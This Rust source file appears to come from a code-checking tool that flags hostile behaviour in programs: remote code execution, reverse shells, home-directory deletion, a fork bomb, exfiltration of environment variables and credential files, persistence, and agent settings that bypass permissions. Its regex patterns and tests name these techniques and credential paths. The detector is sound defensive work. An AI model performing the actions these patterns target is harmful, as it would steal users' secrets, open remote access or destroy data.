//! Programs in other languages than shell: what one line does, and what several do together.

use std::{iter, ops::Range, sync::LazyLock};

use studio_text::Severity;

use super::{
    Hit, Rule,
    flow::{self, Deed},
    pairs,
    pattern::{find, has, patterns},
    phrase::{Made, Phrase, RUNS, SENDS, UNLOCKS, made},
    sense::Context,
};

const STARTS: &str =
    "This writes to a file that runs by itself later or lets somebody in. Remove it, or ask the user first.";
const DESTROYS: &str =
    "This deletes what the user has on this computer. Remove it, or name exactly what is to be deleted.";

static PHRASES: [Phrase; 5] = [
    Phrase {
        rule: Rule::RemoteCode,
        severity: Severity::Warning,
        pattern: r"\b(?:exec|eval|new\s+Function|scriptblock\]::create)\s*\(\s*[^\n\x60]{0,160}?(?:\b(?:requests\.get|httpx\.get|urlopen|b64decode|bytes\.fromhex|zlib\.decompress|gzip\.decompress|marshal\.loads|codecs\.decode|atob|Buffer\.from|fetch|\w+\.urlopen|downloadstring)\s*\(|\b(?:irm|iwr)\s+\S)",
        message: RUNS,
        means: |context, place| context.is_command(place),
    },
    Phrase {
        rule: Rule::RemoteCode,
        severity: Severity::Warning,
        pattern: r"\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]*\s-e(?:c|nc\w*)?\s+['\x22]?[A-Za-z0-9+/=]{20,}|\bcertutil\b[^\n]*-urlcache[^\n]*https?://|\b(?:mshta|regsvr32)(?:\.exe)?\s[^\n]*https?://|\.then\(\s*(?:eval\b|\(?(?:\w+)\)?\s*=>\s*(?:eval|new\s+Function)\s*\()|\bsocket\.socket\([\s\S]{0,600}?(?:\bdup2\s*\(|pty\.spawn|/bin/(?:ba)?sh)|\bnet\.(?:connect|Socket|createConnection)[\s\S]{0,400}?\.pipe\(\s*\w+\.stdin|\bTCPSocket\.(?:open|new)[\s\S]{0,200}?exec\b|\bfsockopen\([\s\S]{0,200}?/bin/(?:ba)?sh|Net\.Sockets\.TCPClient[\s\S]{0,600}?\b(?:iex|Invoke-Expression)\b",
        message: RUNS,
        means: |context, place| context.is_command(place),
    },
    Phrase {
        rule: Rule::Destruction,
        severity: Severity::Warning,
        pattern: r#"\bshutil\.rmtree\(\s*(?:os\.path\.expanduser\(\s*["']~/?["']\s*\)|(?:pathlib\.)?Path\.home\(\)\s*[,)]|["'](?:/|~/?)["']|os\.environ\[["']HOME["']\])|\bfs\.rm(?:Sync|dirSync)?\(\s*(?:os\.homedir\(\)|process\.env\.HOME|["']/["'])\s*,|:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:|\b(?:rmdir|rd)\s+/s\s+/q\s+(?:[a-z]:\\?|%USERPROFILE%)"#,
        message: DESTROYS,
        means: |context, place| context.is_command(place),
    },
    Phrase {
        rule: Rule::RemoteCode,
        severity: Severity::Warning,
        pattern: r#"\b(?:os\.system|os\.popen|subprocess\.\w+|execSync|spawnSync|spawn|Popen)\s*\(\s*\[?\s*["'](?:/bin/)?(?:ba)?sh["'][^\n]*(?:(?:input|stdin)\s*[=:]|-c["']\s*,)\s*[^\n]*(?:requests\.get|urlopen|fetch)\s*\("#,
        message: RUNS,
        means: |context, place| context.is_command(place),
    },
    // Settings of agents, as a file of them or as a block to copy.
    Phrase {
        rule: Rule::Persistence,
        severity: Severity::Warning,
        pattern: r#""defaultMode"\s*:\s*"bypassPermissions"|"allow"\s*:\s*\[[^\]]{0,200}"(?:Bash(?:\(\*\))?|\*)"|\bapproval_policy\s*=\s*"never"|\bsandbox_mode\s*=\s*"danger-full-access"|"enableAllProjectMcpServers"\s*:\s*true"#,
        message: UNLOCKS,
        means: |context, place| context.is_command(place),
    },
];

patterns! {
    // A name that is given what was fetched, or what is written so that nobody can read it.
    TAKES = r"(?im)^[ \t]*(?:(?:const|let|var)\s+)?\$?([a-z_]\w*)(?:\s*:\s*\w+)?\s*=\s*[^\n]*?(?:\b(?:requests\.get|httpx\.get|urlopen|b64decode|bytes\.fromhex|zlib\.decompress|marshal\.loads|codecs\.decode|atob|Buffer\.from|fetch|downloadstring|frombase64string)\s*\(|\b(?:irm|iwr|invoke-webrequest|invoke-restmethod)\s+\S)";
    // A name that is made of another, and one that is run.
    MADE_OF = r"(?im)^[ \t]*(?:(?:const|let|var)\s+)?\$?([a-z_]\w*)\s*=\s*([^\n]*)";
    RUN = r"(?im)(?:(?:^|[^.\w])(?:exec|eval|new\s+Function)|\b(?:vm['\x22)]*\.runIn(?:This|New)Context|os\.system|os\.popen|execSync)|scriptblock\]::create)\s*\(([^\n]*)|\b(?:iex|invoke-expression)\b([^\n]*)|^([^\n]*)\|\s*(?:iex|invoke-expression)\b|\binput\s*=\s*(\w+)";
    GETS = r"(?i)\b(?:requests\.get|httpx\.get|urlopen|urlretrieve|fetch|https?\.get|axios\.get|downloadfile|start-bitstransfer)\s*\(?|\b(?:iwr|invoke-webrequest)\b[^\n]*-outfile";
    MAKES_PROGRAM = r"(?i)\bchmod(?:Sync)?\s*\(|S_IEXEC|S_IXUSR|\.(?:exe|ps1|msi|bat)\b|\.(?:sh|bin)['\x22]";
    STARTS_PROGRAM = r"(?i)\b(?:subprocess\.(?:run|Popen|call|check_\w+|getoutput)|os\.system|os\.exec\w+|os\.spawn\w+|Popen|execFile(?:Sync)?|execSync|spawn(?:Sync)?|start-process|invoke-item)\b\s*\(?";
    COMPARES = r"(?i)hashlib|sha256|sha512|createHash|get-filehash|gpg|minisign|cosign|\.verify\(";
    WHOLE_ENVIRONMENT = r"(?i)(?:JSON\.stringify|json\.dumps|urlencode|querystring\.stringify|\bstr|\bdict|b64encode|repr)\s*\([^;\n]*\b(?:process\.env|os\.environ)\s*(?:[,)}]|\.copy\(\)|\.items\(\))|\b(?:in|of)\s+(?:os\.environ(?:\.items\(\))?\s*(?:[\]:})]|if\b)|Object\.(?:entries|keys)\(\s*process\.env\s*\))|\{\s*\.\.\.process\.env\s*[,}]";
    KEYS = r#"(?i)["'`/~](?:\.ssh(?:/(?:id_\w+|["'`])|["'`])|id_(?:rsa|ed25519|ecdsa)["'`]|\.aws(?:/credentials|["'`])|\.netrc["'`]|\.gnupg|\.kube/config|\.docker/config\.json|\.npmrc["'`]|\.pypirc["'`]|\.git-credentials|\.config/gcloud|Login Data["'`]|logins\.json|wallet\.dat|\.claude/\.credentials)"#;
    CARRIES = r#"(?i)\.(?:post|put|sendall|sendto|sendBeacon)\s*\(|\bmethod\s*[:=]\s*["'`](?:POST|PUT)|\burlopen\s*\([^\n]*\bdata\s*=|\bRequest\s*\([^\n]*\bdata\s*=|\brequest\s*\(\s*["'](?:POST|PUT)|\bgethostbyname\s*\(|\bdns\.(?:resolve\w*|lookup)\s*\(|\bnet\.(?:connect|createConnection)|socket\.create_connection|XMLHttpRequest|\bsmtplib\b"#;
    LATER = r#"(?i)["'`/~](?:\.bashrc|\.zshrc|\.profile|\.bash_profile|\.zprofile|\.ssh/authorized_keys|authorized_keys|Library/LaunchAgents|LaunchAgents|\.config/autostart)\b"#;
    WRITES = r#"(?i)\bopen\s*\([^\n]*["'][aw]\+?b?["']|\bwrite_(?:text|bytes)\s*\(|\b(?:append|write)File(?:Sync)?\s*\(|\.write\s*\("#;
    RUN_KEY = r"(?i)CurrentVersion[/\\]+Run(?:Once)?\b";
    HOOKS = r#"(?i)\.git["'\s,/+]{1,6}hooks["'\s,/+]{1,6}(?:pre|post|commit|update)"#;
    FETCHES_TO_RUN = r"(?i)\b(?:curl|wget)\b[^\n]*\|\s*(?:ba)?sh\b|\bnohup\b|base64\s+-d";
    SETTINGS = r"(?i)\.claude\b[^\n]{0,30}settings|\.codex\b[^\n]{0,20}config\.toml|\.gemini\b[^\n]{0,20}settings";
    UNLIMITED = r#"(?i)bypassPermissions|danger-full-access|Bash\(\*\)|skipPermissions|enableAllProjectMcpServers|["']hooks["']|approval_policy"#;
}

/// What a program does by several lines, in the whole of a file or in one fence.
pub(super) fn hits(context: &Context<'_>) -> Vec<Hit> {
    let programs: Vec<Range<usize>> = if context.is_prose {
        context
            .code()
            .iter()
            .map(|span| span.start..span.end)
            .filter(|span| context.text[span.clone()].contains('\n'))
            .collect()
    } else {
        iter::once(0..context.text.len()).collect()
    };
    let acts = programs.into_iter().flat_map(|span| acts(context, span));
    acts.filter(|hit| context.is_command(&hit.span)).collect()
}

fn acts(context: &Context<'_>, program: Range<usize>) -> Vec<Hit> {
    let text = &context.text[program.clone()];
    let plain = &context.plain()[program.clone()];
    let mut found = deeds(text, plain, !context.is_shell());
    let is_told = |rule: Rule, found: &[Deed]| found.iter().any(|(known, _, _)| *known == rule);
    // One way of it is enough.
    let more: Vec<Deed> = if context.is_shell() { Vec::new() } else { pairs::deeds(context.path, text) };
    let more: Vec<Deed> = more.into_iter().filter(|(rule, _, _)| !is_told(*rule, &found)).collect();
    found.extend(more);
    let hit = |(rule, place, message): Deed| Hit {
        rule,
        severity: Severity::Warning,
        span: program.start + place.start..program.start + place.end,
        message: message.to_owned(),
    };
    found.into_iter().map(hit).collect()
}

pub(super) static MADE: LazyLock<Vec<Made>> = LazyLock::new(|| made(&PHRASES));

/// What a program does that stands in a command or below it.
pub(super) fn embedded(text: &str) -> Vec<(Rule, &'static str)> {
    let told = MADE.iter().filter(|(regex, _)| regex.is_match(text));
    let mut found: Vec<(Rule, &'static str)> = told.map(|(_, phrase)| (phrase.rule, phrase.message)).collect();
    let deeds = deeds(text, text, true).into_iter().chain(pairs::deeds("", text));
    found.extend(deeds.map(|(rule, _, message)| (rule, message)));
    found
}

fn deeds(text: &str, plain: &str, is_program: bool) -> Vec<Deed> {
    let at = |pattern| find(pattern, text);
    let mut found: Vec<Deed> = Vec::new();
    found.extend(run_names(text).map(|place| (Rule::RemoteCode, place, RUNS)));
    let is_unchecked = has(&GETS, text) && has(&MAKES_PROGRAM, text) && !has(&COMPARES, text);
    if is_program {
        found.extend(flow::deeds(text));
    }
    found.extend(at(&STARTS_PROGRAM).filter(|_| is_unchecked).map(|place| (Rule::RemoteCode, place, RUNS)));
    let is_sent = found.iter().any(|(rule, _, _)| *rule == Rule::Exfiltration);
    // One way of it is enough.
    if !is_sent && (has(&CARRIES, text) || has(&GETS, text) && text.contains("request")) {
        found.extend(at(&WHOLE_ENVIRONMENT).map(|place| (Rule::Exfiltration, place, SENDS)));
    }
    if has(&CARRIES, text) && !is_sent {
        found.extend(at(&KEYS).map(|place| (Rule::Exfiltration, place, SENDS)));
    }
    if has(&RUN_KEY, text) && text.contains("SetValue") {
        found.extend(at(&RUN_KEY).map(|place| (Rule::Persistence, place, STARTS)));
    }
    if has(&WRITES, text) && has(&FETCHES_TO_RUN, plain) {
        found.extend(at(&HOOKS).map(|place| (Rule::Persistence, place, STARTS)));
    }
    if has(&WRITES, text) {
        found.extend(at(&LATER).map(|place| (Rule::Persistence, place, STARTS)));
        found.extend(at(&SETTINGS).filter(|_| has(&UNLIMITED, text)).map(|place| (Rule::Persistence, place, STARTS)));
    }
    found
}

/// Where a name is run that holds what nobody has read.
fn run_names(text: &str) -> Option<Range<usize>> {
    let (takes, made_of, run) = (TAKES.as_ref()?, MADE_OF.as_ref()?, RUN.as_ref()?);
    let mut names: Vec<&str> =
        takes.captures_iter(text).filter_map(|found| found.get(1)).map(|name| name.as_str()).collect();
    if names.is_empty() {
        return None;
    }
    for found in made_of.captures_iter(text) {
        let (Some(name), Some(value)) = (found.get(1), found.get(2)) else { continue };
        if names.len() < 100 && mentions(value.as_str(), &names) {
            names.push(name.as_str());
        }
    }
    run.captures_iter(text).find_map(|found| {
        let given = (1..=4).find_map(|at| found.get(at))?;
        mentions(given.as_str(), &names).then(|| found.get(0).map(|whole| whole.range())).flatten()
    })
}

/// Whether one of the names is a word of a text by itself, in no quotation.
fn mentions(text: &str, names: &[&str]) -> bool {
    let unquoted = text.split(['"', '\'', '`']).step_by(2);
    let mut words =
        unquoted.flat_map(|part| part.split(|letter: char| !letter.is_ascii_alphanumeric() && letter != '_'));
    words.any(|word| names.contains(&word))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_phrase_has_a_pattern() {
        assert_eq!(MADE.len(), PHRASES.len());
    }

    #[test]
    fn a_name_is_followed_from_where_it_is_fetched_to_where_it_is_run() {
        assert!(run_names("page = urlopen(url).read()\ncode = page.decode()\nexec(code)\n").is_some());
        assert!(run_names("$s = irm https://tides.example/x\niex $s\n").is_some());
        assert!(run_names("page = urlopen(url).read()\nprint(page)\nexec('print(1)')\n").is_none());
    }
}
